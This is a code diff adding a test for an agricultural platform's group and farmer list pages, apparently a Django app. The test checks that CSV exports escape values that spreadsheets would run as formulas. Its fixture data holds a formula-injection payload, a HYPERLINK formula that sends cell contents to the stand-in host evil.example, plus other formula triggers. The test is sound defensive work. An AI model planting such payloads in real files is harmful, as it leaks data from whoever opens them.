@@ -125,3 +125,19 @@ def test_the_translation_editors_api_needs_admin_access(client, group):
     response = client.get(localize_api(Farmer))
     assert response.status_code in (302, 403)
     assert "M-1" not in response.content.decode()
+
+
+def test_csv_downloads_of_groups_and_farmers_hold_no_formula(client, ghana_platform, group):
+    group.name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    group.region = "@SUM(A1:A9)"
+    group.save()
+    FarmerFactory(group=group, member_code="+M-9", name="-2+3")
+
+    groups = client.get(url(type(group), "list"), {"export": "csv"})
+    farmers = client.get(url(Farmer, "list"), {"export": "csv"})
+    groups_csv = b"".join(groups.streaming_content).decode()
+    farmers_csv = b"".join(farmers.streaming_content).decode()
+
+    assert "'=HYPERLINK(" in groups_csv and ",=HYPERLINK(" not in groups_csv
+    assert "'@SUM(A1:A9)" in groups_csv
+    assert "'+M-9" in farmers_csv and "'-2+3" in farmers_csv
